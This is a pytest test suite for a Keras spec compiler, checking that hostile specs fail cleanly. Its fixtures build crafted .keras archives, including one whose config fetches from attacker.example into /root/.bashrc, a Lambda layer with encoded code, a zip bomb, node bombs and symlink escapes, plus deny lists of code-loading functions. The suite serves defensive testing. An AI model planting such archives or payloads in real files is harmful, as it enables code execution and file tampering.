"""Hostile and broken specs: every one ends in a clean error, fast, with nothing run or written.

The corpus is ``tests/corpus/``: one file per case and ``cases*.json`` tables saying,
for each, the exit code, the JSON path and a fragment of the message it must
produce. Cases that need a generated file (a 5,000-digit integer, 100,000
brackets, a file over the size limit, folders, links, FIFOs, crafted ``.keras``
archives, output paths) are built here into ``tmp_path`` from the GENERATED
table.

Every case runs in-process through ``check``, ``compile`` and ``render`` (the
commands its entry names) with click's CliRunner, with sockets disabled, and
must: exit as expected, print only ``error:`` lines naming the file, the JSON
path and the fragment, validate against ``schemas/fusec-errors.schema.json``
with ``--json``, and leave the working folder exactly as it was. A
representative subset also runs as ``fusec check`` in a subprocess in which
TensorFlow and Keras cannot be imported. How check time grows with a
spec's size is tested in tests/test_growth.py.
"""

from __future__ import annotations

import ast
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from corpus_kit import COMMANDS, CORPUS, Case, committed_cases, error_line, spec, write

from conftest import ROOT

#: corpus files that are not cases themselves (a valid sub-spec some cases point at)
HELPERS = {"sub_ok.json"}

CASES = committed_cases()
BY_ID = {c.id: c for c in CASES}


# --- generated cases ----------------------------------------------------------


def _huge_int(tmp: Path) -> Case:
    text = json.dumps(spec(seed=7)).replace('"seed": 7', '"seed": ' + "9" * 5000)
    return Case("huge_int", write(tmp / "huge_int.json", text), 1, "$.seed", "5000 digits", "json")


def _brackets(tmp: Path) -> Case:
    f = write(tmp / "brackets.json", "[" * 100_000 + "]" * 100_000)
    return Case("brackets_100k", f, 1, "$", "nesting is deeper than 64 levels", "json")


def _oversize(tmp: Path) -> Case:
    from fusec.spec.load import MAX_BYTES

    text = json.dumps(spec(doc="x" * MAX_BYTES))
    return Case("oversize", write(tmp / "big.json", text), 1, "$", f"the limit is {MAX_BYTES:,}", "limit")


def _missing(tmp: Path) -> Case:
    return Case("missing_path", tmp / "no_such_spec.json", 1, "$", "no such file", "file")


def _directory(tmp: Path) -> Case:
    (tmp / "folder.json").mkdir()
    return Case("directory", tmp / "folder.json", 1, "$", "not a regular file", "file")


def _fifo(tmp: Path) -> Case:
    os.mkfifo(tmp / "fifo.json")  # reading it would block forever
    return Case("fifo", tmp / "fifo.json", 1, "$", "not a regular file", "file")


def _many_values(tmp: Path) -> Case:
    f = write(tmp / "values.json", json.dumps(spec(doc=[0] * 300_000)))
    return Case("many_values", f, 1, "$", "more than 250,000 JSON values", "limit")


def _many_nodes(tmp: Path) -> Case:
    nodes = {f"n{i}": {"layer": "Flatten", "inputs": "x"} for i in range(20_001)}
    f = write(tmp / "nodes.json", json.dumps(spec(nodes=nodes)))
    return Case("many_nodes", f, 1, "$.nodes", "`nodes` has 20,001 entries; the limit is 20,000", "limit")


def _block_bomb(tmp: Path) -> Case:
    """Blocks of ten instances of blocks of ten ...: 10**8 nodes from a 2 KB file."""
    blocks: dict[str, Any] = {
        "b0": {"inputs": ["x"], "nodes": {"d": {"layer": "Flatten", "inputs": "x"}}, "outputs": {"o": "d"}}
    }
    for i in range(1, 9):
        nodes: dict[str, Any] = {f"i{j}": {"block": f"b{i - 1}", "inputs": "x"} for j in range(10)}
        nodes["m"] = {"merge": "add", "inputs": [f"i{j}" for j in range(10)]}
        blocks[f"b{i}"] = {"inputs": ["x"], "nodes": nodes, "outputs": {"o": "m"}}
    doc = spec(blocks=blocks, nodes={"y": {"block": "b8", "inputs": "x"}})
    f = write(tmp / "block_bomb.json", doc)
    return Case("block_bomb", f, 1, "$.nodes", "expanding the blocks gives more than 20,000 nodes", "limit")


def _submodel_bomb(tmp: Path) -> Case:
    """Specs of ten model nodes of specs of ten model nodes ...: checked once per file, refused by count."""
    for i in range(7):
        if i == 0:
            nodes: dict[str, Any] = {"d": {"layer": "Flatten", "inputs": "x"}}
            out = "d"
        else:
            nodes = {f"m{j}": {"model": f"s{i - 1}.json", "inputs": "x"} for j in range(10)}
            nodes["a"] = {"merge": "add", "inputs": [f"m{j}" for j in range(10)]}
            out = "a"
        write(
            tmp / "bomb" / f"s{i}.json", spec(inputs={"x": {"shape": [2]}}, nodes=nodes, outputs={"y": {"from": out}})
        )
    f = tmp / "bomb" / "s6.json"
    return Case("submodel_bomb", f, 1, "$.nodes.m0.model", "more than 20,000 nodes in all", "model")


def _growth_spec(name: str, n: int, **changes: Any) -> dict[str, Any]:
    from test_growth import SPECS

    doc = SPECS[name][0](n)
    doc.update(changes)
    return doc


def _at_scale(
    cid: str, pattern: str, n: int, path: str, fragment: str, code: str, **changes: Any
) -> Callable[[Path], Case]:
    """A case made of a tests/test_growth.py pattern at size n (one that once took minutes to check)."""

    def make(tmp: Path) -> Case:
        return Case(cid, write(tmp / f"{cid}.json", _growth_spec(pattern, n, **changes)), 1, path, fragment, code)

    make.__name__ = f"_{cid}"
    return make


#: twelve levels of blocks re-exporting four ports (once 66 s), 3,000 dangling references (once 41 s), ...
AT_SCALE = [
    _at_scale(
        "port_reexports", "nested_port_reexports", 4, "$.outputs.y.from", "block instance `t` has no output `o9`",
        "reference", outputs={"y": {"from": "t.o9", "loss": "mse"}},
    ),
    _at_scale(
        "many_dangling", "dangling_references", 3000, "$.nodes.n2999.inputs", "no node or input named `zz2999`",
        "reference",
    ),
    _at_scale(
        "many_missing_shared", "missing_shared_layers", 3000, "$.nodes.n2999.shared",
        "no shared layer named `t2999`", "reference",
    ),
    _at_scale(
        "many_dangling_in_block", "references_inside_a_block", 3000, "$.blocks.b.nodes.n7.inputs",
        "no node or input named `zz7`", "reference",
    ),
    _at_scale(
        "many_mistyped", "mistyped_layers", 19_999, "$.nodes.n19998", "does not match the schema", "schema",
    ),
    _at_scale("long_cycle_5000", "one_long_cycle", 5000, "$.nodes.n0.inputs", "cycle", "cycle"),
]  # fmt: skip


def _symlink_escape(tmp: Path) -> Case:
    outside = tmp / "outside" / "real.keras"
    outside.parent.mkdir()
    shutil.copy(ROOT / "specs" / "parts" / "image_classifier.keras", outside)
    spec_dir = tmp / "spec"
    spec_dir.mkdir()
    (spec_dir / "link.keras").symlink_to(outside)
    doc = spec(inputs={"x": {"shape": [32, 32, 3]}}, nodes={"y": {"model": "link.keras", "inputs": "x"}})
    f = write(spec_dir / "symlink.json", doc)
    return Case("symlink_escape", f, 1, "$.nodes.y.model", "leaves the spec's folder", "model")


def _symlinked_folder_escape(tmp: Path) -> Case:
    (tmp / "outside").mkdir()
    shutil.copy(ROOT / "specs" / "parts" / "image_classifier.keras", tmp / "outside" / "real.keras")
    (tmp / "spec").mkdir()
    (tmp / "spec" / "models").symlink_to(tmp / "outside", target_is_directory=True)
    doc = spec(inputs={"x": {"shape": [32, 32, 3]}}, nodes={"y": {"model": "models/real.keras", "inputs": "x"}})
    f = write(tmp / "spec" / "folder_link.json", doc)
    return Case("symlinked_folder_escape", f, 1, "$.nodes.y.model", "leaves the spec's folder", "model")


def _archive(tmp: Path, name: str, mutate: Callable[[Any], Any] | None = None, raw: bytes | None = None) -> Path:
    """A copy of the bundled image_classifier.keras with its config.json changed (or replaced)."""
    src = ROOT / "specs" / "parts" / "image_classifier.keras"
    dst = tmp / "spec" / name
    dst.parent.mkdir(exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "config.json":
                data = raw if raw is not None else json.dumps(mutate(json.loads(data)) if mutate else data).encode()
            zout.writestr(item, data)
    return dst


def _add_layer(layer: dict[str, Any]) -> Callable[[Any], Any]:
    def mutate(config: Any) -> Any:
        config["config"]["layers"].insert(1, layer)
        return config

    return mutate


_LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "evil",
        "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}},
        "arguments": {},
    },
    "registered_name": None,
    "name": "evil",
    "inbound_nodes": [],
}


def _keras_case(cid: str, archive: Path, fragment: str) -> Case:
    doc = spec(inputs={"x": {"shape": [32, 32, 3]}}, nodes={"y": {"model": archive.name, "inputs": "x"}})
    f = write(archive.parent / f"{cid}.json", doc)
    return Case(cid, f, 1, "$.nodes.y.model", fragment, "model")


def _lambda_keras(tmp: Path) -> Case:
    archive = _archive(tmp, "lambda.keras", _add_layer(_LAMBDA))
    return _keras_case("keras_with_lambda", archive, "holds classes fusec will not load: layer `Lambda`")


def _tfsm_keras(tmp: Path) -> Case:
    layer = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "t", "filepath": "/etc"}}
    archive = _archive(tmp, "tfsm.keras", _add_layer(layer))
    return _keras_case("keras_with_tfsmlayer", archive, "layer `TFSMLayer`")


def _module_keras(tmp: Path) -> Case:
    """CVE-2025-8747 style: a config naming a function in a Keras module that is not a layer module."""

    def mutate(config: Any) -> Any:
        dense = next(layer for layer in config["config"]["layers"] if layer["class_name"] == "Dense")
        dense["config"]["kernel_initializer"] = {
            "module": "keras.utils",
            "class_name": "get_file",
            "config": {"origin": "https://attacker.example/x", "fname": "/root/.bashrc"},
            "registered_name": None,
        }
        return config

    archive = _archive(tmp, "module.keras", mutate)
    return _keras_case("keras_with_foreign_module", archive, "module `keras.utils`")


def _custom_object_keras(tmp: Path) -> Case:
    layer = {"module": "my_package.layers", "class_name": "Dense", "registered_name": "my_package>Dense", "config": {}}
    archive = _archive(tmp, "custom.keras", _add_layer(layer))
    return _keras_case("keras_with_custom_object", archive, "custom object `my_package>Dense`")


def _not_zip_keras(tmp: Path) -> Case:
    archive = write(tmp / "spec" / "fake.keras", b"\x7fELF\x02\x01\x01" + b"\x00" * 100)
    return _keras_case("keras_not_a_zip", archive, "is not a readable .keras archive")


def _malformed_keras(tmp: Path) -> Case:
    archive = _archive(tmp, "malformed.keras", raw=b'{"config": {"layers": [1, 2, 3], "input_layers": 7}}')
    return _keras_case("keras_malformed_config", archive, "does not describe a Keras model")


def _deep_keras(tmp: Path) -> Case:
    archive = _archive(tmp, "deep.keras", raw=b"[" * 100_000 + b"]" * 100_000)
    return _keras_case("keras_deep_config", archive, "is not a readable .keras archive")


def _zip_bomb_keras(tmp: Path) -> Case:
    """Weights that inflate from a few hundred KB to 70 MB (Keras itself stores them uncompressed)."""
    src = ROOT / "specs" / "parts" / "image_classifier.keras"
    dst = tmp / "spec" / "bomb.keras"
    dst.parent.mkdir(exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        zout.writestr("config.json", zin.read("config.json"))
        with zout.open("model.weights.h5", "w") as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(70):
                fh.write(chunk)
    return _keras_case("keras_zip_bomb", dst, "would expand to 73,400,320 bytes")


def _non_utf8_name(tmp: Path) -> Case:
    name = os.fsdecode(b"spec-\xff.json")
    f = write(tmp / name, b"{nope")
    return Case("non_utf8_file_name", f, 1, "$", "not valid JSON", "json")


def _basespec(tmp: Path, name: str = "good.json") -> Path:
    return write(tmp / name, spec())


def _out_is_file(tmp: Path) -> Case:
    out = write(tmp / "out", "precious\n")
    return Case(
        "output_is_a_file", _basespec(tmp), 1, "$", "exists and is not a folder", "output",
        ("compile",), out_args=("-o", str(out)), keep=(out,),
    )  # fmt: skip


def _out_unwritable(tmp: Path) -> Case:
    ro = tmp / "readonly"
    ro.mkdir()
    ro.chmod(0o555)
    return Case(
        "output_folder_unwritable", _basespec(tmp), 1, "$", "is not writable", "output",
        ("compile",), out_args=("-o", str(ro / "model")),
    )  # fmt: skip


def _out_unwritable_deep(tmp: Path) -> Case:
    ro = tmp / "readonly"
    ro.mkdir()
    ro.chmod(0o555)
    return Case(
        "output_parent_missing_unwritable", _basespec(tmp), 1, "$", "is not writable", "output",
        ("compile",), out_args=("-o", str(ro / "a" / "b" / "model")),
    )  # fmt: skip


def _out_foreign(tmp: Path) -> Case:
    home = tmp / "home"
    notes = write(home / "notes.txt", "do not delete\n")
    return Case(
        "output_foreign_folder", _basespec(tmp), 1, "$", "non-empty folder that fusec did not write", "output",
        ("compile",), out_args=("-o", str(home)), keep=(notes,),
    )  # fmt: skip


def _out_fake_manifest(tmp: Path) -> Case:
    """A folder holding some other tool's fusec.json is still not fusec's output."""
    home = tmp / "home"
    fake = write(home / "fusec.json", "not a manifest\n")
    other = write(home / "thesis.tex", "months of work\n")
    return Case(
        "output_fake_manifest", _basespec(tmp), 1, "$", "non-empty folder that fusec did not write", "output",
        ("compile",), out_args=("-o", str(home)), keep=(fake, other),
    )  # fmt: skip


def _out_under_file(tmp: Path) -> Case:
    f = write(tmp / "plain", "x\n")
    return Case(
        "output_parent_is_a_file", _basespec(tmp), 1, "$", "is not a folder", "output",
        ("compile",), out_args=("-o", str(f / "model")), keep=(f,),
    )  # fmt: skip


def _out_symlink(tmp: Path) -> Case:
    target = tmp / "elsewhere"
    kept = write(target / "keep.txt", "x\n")
    (tmp / "link").symlink_to(target, target_is_directory=True)
    return Case(
        "output_is_a_symlink", _basespec(tmp), 1, "$", "exists and is not a folder", "output",
        ("compile",), out_args=("-o", str(tmp / "link")), keep=(kept,),
    )  # fmt: skip


def _render_out_is_folder(tmp: Path) -> Case:
    (tmp / "diagram.dot").mkdir()  # dot: no Graphviz needed to reach the write
    return Case(
        "render_output_is_a_folder", _basespec(tmp), 1, "$", "is a folder", "output",
        ("render",), out_args=("-o", str(tmp / "diagram.dot")),
    )  # fmt: skip


GENERATED: list[Callable[[Path], Case]] = [
    *AT_SCALE,
    _huge_int,
    _brackets,
    _oversize,
    _missing,
    _directory,
    _fifo,
    _many_values,
    _many_nodes,
    _block_bomb,
    _submodel_bomb,
    _symlink_escape,
    _symlinked_folder_escape,
    _lambda_keras,
    _tfsm_keras,
    _module_keras,
    _custom_object_keras,
    _not_zip_keras,
    _malformed_keras,
    _deep_keras,
    _zip_bomb_keras,
    _non_utf8_name,
    _out_is_file,
    _out_unwritable,
    _out_unwritable_deep,
    _out_foreign,
    _out_fake_manifest,
    _out_under_file,
    _out_symlink,
    _render_out_is_folder,
]
GENERATED_IDS = [g.__name__.lstrip("_") for g in GENERATED]

#: cases also run as a real `fusec check` process without TensorFlow
SUBPROCESS = [
    "not_json", "binary_png", "duplicate_config_key", "nan", "wrong_version", "unknown_top_key",
    "units_1e12", "lambda_layer", "dotted_os_system", "remote_ref_node", "self_loop", "long_cycle",
    "cycle_through_block", "dangling_output", "shape_mismatch_add", "dot_axes_sizes", "gate_width_off_by_one",
    "over_budget", "model_path_dotdot",
]  # fmt: skip
SUBPROCESS_GENERATED = [
    _huge_int, _brackets, _oversize, _missing, _directory, _fifo, _many_values, _many_nodes, _block_bomb,
    _submodel_bomb, _symlink_escape, _lambda_keras, _deep_keras, _zip_bomb_keras,
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_committed_case(case: Case, corpus_run: Any) -> None:
    corpus_run(lambda _work: case)


#: the at-scale cases of thousands of nodes: static, but seconds each (six runs), so kept out of `make test-fast`
SLOW_AT_SCALE = {"many_dangling", "many_missing_shared", "many_dangling_in_block", "many_mistyped", "long_cycle_5000"}


@pytest.mark.parametrize(
    "make",
    [pytest.param(g, marks=pytest.mark.slow) if g.__name__[1:] in SLOW_AT_SCALE else g for g in GENERATED],
    ids=GENERATED_IDS,
)
def test_generated_case(make: Callable[[Path], Case], corpus_run: Any) -> None:
    corpus_run(make)


# --- as a real process, without TensorFlow --------------------------------------


def _subprocess_check(case: Case, no_tf: Path, cwd: Path) -> None:
    """``fusec check`` in a fresh interpreter without TensorFlow gives the clean error.

    How the time grows with the size of such specs is tested in
    tests/test_growth.py (no wall-clock bound here: CI machines are noisy).
    """
    env = {**os.environ, "PYTHONPATH": str(no_tf), "TMPDIR": str(cwd)}
    proc = subprocess.run(
        [sys.executable, "-m", "fusec", "check", os.fsencode(case.file), *case.args],
        capture_output=True,
        env=env,
        cwd=cwd,
        timeout=120,
    )
    stderr = proc.stderr.decode("utf-8", "replace")
    assert proc.returncode == case.exit, stderr
    assert "Traceback" not in stderr
    lines = stderr.splitlines()
    assert all(error_line(line, case.file) for line in lines), stderr
    assert any(error_line(line, case.file, case.path) and case.fragment in line for line in lines), stderr


@pytest.mark.parametrize("cid", SUBPROCESS)
def test_static_case_in_a_process(cid: str, no_tf: Path, tmp_path: Path) -> None:
    _subprocess_check(BY_ID[cid], no_tf, tmp_path)


@pytest.mark.parametrize("make", SUBPROCESS_GENERATED, ids=[g.__name__.lstrip("_") for g in SUBPROCESS_GENERATED])
def test_generated_case_in_a_process(make: Callable[[Path], Case], no_tf: Path, tmp_path: Path) -> None:
    _subprocess_check(make(tmp_path), no_tf, tmp_path)


@pytest.mark.parametrize("command", ["compile", "render"])
def test_over_budget_is_refused_before_tensorflow(command: str, no_tf: Path, tmp_path: Path) -> None:
    """compile refuses a model over the budget without importing TensorFlow; render draws it with the error.

    No tensor exists in either: render's drawing of a spec with errors holds the error in its title.
    """
    case = BY_ID["over_budget"]
    out = tmp_path / ("out" if command == "compile" else "out.svg")
    proc = subprocess.run(
        [sys.executable, "-m", "fusec", command, str(case.file), "-o", str(out)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(no_tf)},
        timeout=60,
    )
    assert proc.returncode == 1, proc.stderr
    assert "281,474,993,487,872 parameters, over the budget of 500,000,000" in proc.stderr
    assert "--max-params" in proc.stderr and "Traceback" not in proc.stderr
    if command == "compile":
        assert not out.exists()
    else:
        assert "over the budget of 500,000,000" in out.read_text() and out.read_text().endswith("</svg>\n")


# --- the table itself, and the code paths ---------------------------------------


def test_corpus_is_complete() -> None:
    """At least 50 committed cases, every file a case, every case's file present, ids unique."""
    assert len(CASES) + len(GENERATED) >= 50
    assert len(CASES) >= 50
    assert len({c.id for c in CASES} | set(GENERATED_IDS)) == len(CASES) + len(GENERATED)
    files = {p.name for p in CORPUS.iterdir() if not (p.name.startswith("cases") and p.suffix == ".json")}
    used = {c.file.name for c in CASES}
    assert used <= files
    assert files - used == HELPERS
    for c in CASES:
        assert c.exit in (0, 1, 2)
        assert c.path is None or c.path.startswith("$")
        assert set(c.commands) <= set(COMMANDS)


#: builtins that run or import code by name
_FORBIDDEN_BUILTINS = {"eval", "exec", "compile", "__import__", "breakpoint"}
#: methods that import, unpickle or deserialize by a name found in data
_FORBIDDEN_METHODS = {
    "import_module", "from_config", "model_from_json", "model_from_config", "deserialize",
    "deserialize_keras_object", "get_registered_object", "register_keras_serializable_from_name",
}  # fmt: skip
_FORBIDDEN_MODULES = {"pickle", "marshal", "importlib", "shelve", "dill", "cloudpickle", "urllib", "requests", "http"}


def test_compiler_has_no_code_paths() -> None:
    """Nothing in fusec evaluates, imports or deserializes by a name a spec could supply.

    Layer and merge classes come from closed tables; the only Keras loader
    used is ``keras.saving.load_model`` with ``safe_mode=True`` (sub-model
    archives, after fusec's own scan of their config).
    """
    paths = sorted((ROOT / "compiler").rglob("*.py"))  # every subpackage, not just the top level
    assert len(paths) > 50
    for path in paths:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                assert not {a.name.split(".")[0] for a in node.names} & _FORBIDDEN_MODULES, (path.name, node.lineno)
            elif isinstance(node, ast.ImportFrom):
                assert (node.module or "").split(".")[0] not in _FORBIDDEN_MODULES, (path.name, node.lineno)
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                assert node.func.id not in _FORBIDDEN_BUILTINS, f"{path.name}:{node.lineno} calls {node.func.id}"
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                name = node.func.attr
                assert name not in _FORBIDDEN_METHODS, f"{path.name}:{node.lineno} calls {name}"
                if name == "load_model":
                    safe = [k for k in node.keywords if k.arg == "safe_mode"]
                    assert safe and isinstance(safe[0].value, ast.Constant) and safe[0].value.value is True, (
                        f"{path.name}:{node.lineno} loads a model without safe_mode=True"
                    )


def test_tables_are_closed_and_exact() -> None:
    """Layer and merge names are exact Keras class names; refused names can never be added by a spec."""
    from fusec.spec.schema import generate_schema
    from fusec.vocab.layers import LAYERS, REFUSED
    from fusec.vocab.merges import MERGES

    assert not set(REFUSED) & set(LAYERS)
    assert all(name.isidentifier() and "." not in name for name in LAYERS)
    node = generate_schema()["$defs"]["node"]
    assert node["properties"]["layer"]["enum"] == sorted(LAYERS)
    assert node["properties"]["merge"]["enum"] == list(MERGES)
    assert node["additionalProperties"] is False


def test_custom_names_do_not_shadow_builtins(tmp_path: Path) -> None:
    """A block, shared layer or node named like a layer type is still only a name."""
    from fusec.errors import FusecError
    from fusec.static.check import check_spec

    tower = {
        "inputs": ["x"],
        "nodes": {"d": {"layer": "Dense", "config": {"units": 2}, "inputs": "x"}},
        "outputs": {"o": "d"},
    }
    doc = spec(
        blocks={"Dense": tower, "Lambda": tower},
        shared={"Flatten": {"layer": "Dense", "config": {"units": 3}}},
        nodes={
            "Lambda": {"block": "Lambda", "inputs": "x"},
            "Dense": {"shared": "Flatten", "inputs": "Lambda"},
            "y": {"layer": "Dense", "config": {"units": 1}, "inputs": "Dense"},
        },
    )
    checked = check_spec(write(tmp_path / "names.json", doc))
    assert checked.info["Dense"].shape == (None, 3)  # the shared Dense(3), not a Flatten
    assert checked.info["y"].op == "Dense"
    for kind, value in (("layer", "Lambda"), ("layer", "Flatten_block"), ("merge", "Dense")):
        bad = spec(blocks={"Flatten_block": tower}, nodes={"y": {kind: value, "inputs": "x"}})
        with pytest.raises(FusecError):
            check_spec(write(tmp_path / "bad.json", bad))


def test_fusec_own_layers_pass_the_archive_scan(tmp_path: Path) -> None:
    """An archive fusec compiled (a weighted merge: module ``fusec.keras.fusion``) is accepted as a sub-model."""
    from fusec.errors import FusecError
    from fusec.static.check import check_spec

    def own(registered: str) -> dict[str, Any]:
        return {
            "module": "fusec.keras.fusion",
            "class_name": "WeightedMerge",
            "registered_name": registered,
            "config": {"name": "w", "normalize": "softmax"},
            "inbound_nodes": [],
        }

    ok = _keras_case("own", _archive(tmp_path, "own.keras", _add_layer(own("fusec>WeightedMerge"))), "")
    assert check_spec(ok.file).info["y"].kind == "model"
    bad = _keras_case("evil", _archive(tmp_path, "evil.keras", _add_layer(own("fusec>Evil"))), "")
    with pytest.raises(FusecError, match="custom object `fusec>Evil`"):
        check_spec(bad.file)
